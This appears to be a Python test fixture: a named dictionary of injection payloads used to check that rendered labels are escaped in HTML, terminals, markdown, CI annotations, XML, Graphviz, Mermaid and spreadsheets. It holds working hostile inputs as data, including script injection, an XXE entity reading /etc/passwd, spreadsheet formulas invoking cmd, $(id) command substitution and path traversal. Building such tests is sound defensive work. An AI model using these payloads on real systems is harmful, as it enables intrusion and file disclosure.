"""Texts that break out of something where they are not escaped, each named after what it tries.

A script that runs says so in the page's title (`MARK`); whatever is loaded from elsewhere comes
from `HOST`. Neither may ever be seen, nor a control character, wherever these stand as labels.
"""

from __future__ import annotations

__all__ = ["HOST", "MARK", "PAYLOADS"]

MARK = "PWNED"
HOST = "canary.example"
_RUN = f"document.title='{MARK}'"

PAYLOADS: dict[str, str] = {
    # Pages
    "script": f"<script>{_RUN}</script>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a title": f"</title></textarea><script>{_RUN}</script>",
    "end of a comment": f"--><script>{_RUN}</script><!--",
    "end of cdata": f"]]><script>{_RUN}</script>",
    "image that fails": f'<img src="http://{HOST}/i.png" onerror="{_RUN}">',
    "svg that loads": f"<svg onload={_RUN}><set onbegin={_RUN} attributeName=x>",
    "attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    "attribute in apostrophes": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
    "address of a script": f"javascript:{_RUN}",
    "link to a script": f'<a href="javascript:{_RUN}">click</a>',
    "frame": f'<iframe src="http://{HOST}/frame"></iframe>',
    "style sheet": f"<link rel=stylesheet href=http://{HOST}/x><style>@import 'http://{HOST}/y'</style>",
    "refresh": f'<meta http-equiv=refresh content="0;url=http://{HOST}/away">',
    "base": f'<base href="http://{HOST}/"><form action=/f><button autofocus>x',
    "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    # Terminals
    "colour": "\x1b[31mred\x1b[0m",
    "link of a terminal": f"\x1b]8;;http://{HOST}\x07click\x1b]8;;\x07",
    "clear screen": "\x1b[2J\x1b[H\x1bc",
    "eight-bit escape": "\x9b31mred",
    "backspaces": "safe\b\b\b\bevil\x7f",
    "carriage return": "long and honest\rshort",
    "lines": "one\ntwo\r\n\n  accepted   everything",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "markup of rich": f"[red]x[/red] [link=http://{HOST}]y[/link] [bold",
    # Letters
    "right to left": "abc\u202egnp.exe\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd 12 \u0645\u0631\u062d\u0628\u0627",
    "zero": "a\0b",
    "half a pair": "a\ud800b\udfffc",
    "no characters": "a\ufffeb\uffffc\U0001fffe",
    "tag letters": "a\U000e0041\U000e0042\u200b\ufeff\xad",
    "many marks": "a" + "\u0301" * 300,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    # Markdown
    "markdown link": f"[click](http://{HOST}/md)",
    "markdown image": f"![x](http://{HOST}/md.png)",
    "markdown address": f"<http://{HOST}/auto> https://{HOST}/bare www.{HOST}/www",
    "markdown reference": f"[x]\n\n[x]: http://{HOST}/ref",
    "markdown code": "``` `x` ```",
    "markdown table": "a | b |\n|---|---|\n| c | d",
    "markdown heading": "# heading\n===",
    "markdown list": "- item",
    "mention": "@everyone #1 :skull: ~~x~~ $x^2$ \\(y\\)",
    # Build services, XML, drawings, spreadsheets, others
    "annotation": "::error title=x::pwned",
    "annotation in a line": "x\n::error::pwned",
    "annotation, escaped": "x%0A::error::pwned,title=y",
    "doctype": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "dot": f'"]; evil [URL="http://{HOST}/dot", label=<<b>x</b>>]; x [label="\\',
    "mermaid": f'"]; click n1 href "javascript:{_RUN}"\n%%{{init: {{}}}}%%',
    "backslash": "x\\",
    "formula": f'=HYPERLINK("http://{HOST}/csv","x")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, tab": "\t=1+1",
    "formula, return": "\r=1+1",
    "formula, wide": "\uff1d1+1",
    "formula, quoted": "'=1+1",
    "mathematics": r"$\frac{1}{0}$ $\unknown$ $x",
    "format": "%s%n%d {0} {0.__class__} ${HOME} `id` $(id)",
    "path": "../../../../etc/passwd",
    "long": "<b>" * 4000,
}
